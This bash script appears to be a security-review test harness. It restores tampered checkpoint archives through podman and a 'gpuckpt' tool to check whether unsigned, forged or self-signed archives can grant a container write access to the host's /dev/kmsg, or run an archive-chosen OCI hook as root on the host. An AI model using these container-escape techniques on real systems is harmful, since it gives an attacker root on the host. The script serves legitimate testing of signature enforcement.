#!/bin/bash
# attack30b: the device attacks through podman's own `podman container restore --import`, as installed
# (runtime gpuckpt-runtime by default; runc/crun linked to it). Run as root after make_export.sh.
set -u
D=/var/tmp/attack30b; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D
attempt() {  # MODE DEVICE CMD-IN-CONTAINER
  local mode=$1 dev=$2 cmd=$3
  echo "=== $mode $dev"
  $P $H/edit.py src.tar.zst $mode.tar.zst kmsg-$mode $dev >/dev/null
  podman rm -f -t 0 attack30b-src >/dev/null 2>&1
  timeout 200 podman container restore --import $mode.tar.zst 2>&1 | tail -1; echo "restore rc=${PIPESTATUS[0]}"
  podman exec attack30b-src sh -c "$cmd" 2>&1; echo "exec rc=$?"
  podman rm -f -t 0 attack30b-src >/dev/null 2>&1
}
attempt nosig  c:1:11:rw "echo attack30b-nosig-$$ > /attack30b-dev"
attempt forged c:1:11:rw "echo attack30b-forged-$$ > /attack30b-dev"
attempt own    c:1:11:rw "echo attack30b-own-$$ > /attack30b-dev"
echo "--- host kernel log lines written from the containers:"; dmesg | grep "attack30b-.*-$$" || echo none
echo "--- OCI createRuntime hook (/bin/sh) in spec.dump: a program of the archive's choice run as root on the host"
rm -f $D/hook-ran-*
for mode in nosig own forged; do
  echo "=== hook-$mode"
  $P $H/edit.py src.tar.zst hook-$mode.tar.zst hook-$mode >/dev/null
  podman rm -f -t 0 attack30b-src >/dev/null 2>&1
  timeout 200 podman container restore --import hook-$mode.tar.zst 2>&1 | tail -1 | cut -c1-300; echo "restore rc=${PIPESTATUS[0]}"
  [ -e $D/hook-ran-kmsg-$mode ] && echo "HOST ROOT: $(ls -l $D/hook-ran-kmsg-$mode | cut -c1-60): $(head -1 $D/hook-ran-kmsg-$mode)" || echo "hook did not run"
  podman rm -f -t 0 attack30b-src >/dev/null 2>&1
done
echo "--- the checked path: gpuckpt import of the same archives (an unsigned exception for $D/ in a trust dir of our own)"
# a trust directory of our own (GPUCKPT_TRUST_DIR: this node's key and policy copied), so the node's policy,
# which other engineers' tests edit meanwhile, is never touched
rm -rf $D/trust; mkdir -m 700 $D/trust; cp /etc/gpuckpt/node.key /etc/gpuckpt/trust.toml $D/trust/
GPUCKPT_TRUST_DIR=$D/trust gpuckpt trust allow-unsigned archive:$D/ --note "attack30b review" >/dev/null
for mode in forged own hook-forged hook-own; do
  GPUCKPT_TRUST_DIR=$D/trust gpuckpt import $D/$mode.tar.zst 2>&1 | grep -v "is unsigned: accepted" | cut -c1-400; echo "gpuckpt import $mode rc=${PIPESTATUS[0]}"
  podman rm -f -t 0 attack30b-src >/dev/null 2>&1
done
echo "--- gpuckpt import of the forged placeholder alone (spec.dump as exported, dump.sig removed)"
$P $H/edit.py src.tar.zst plain-forged.tar.zst plain-forged >/dev/null
GPUCKPT_TRUST_DIR=$D/trust gpuckpt import $D/plain-forged.tar.zst 2>&1 | grep -v "is unsigned: accepted" | cut -c1-300; echo "gpuckpt import plain-forged rc=${PIPESTATUS[0]}"
podman rm -f -t 0 attack30b-src >/dev/null 2>&1
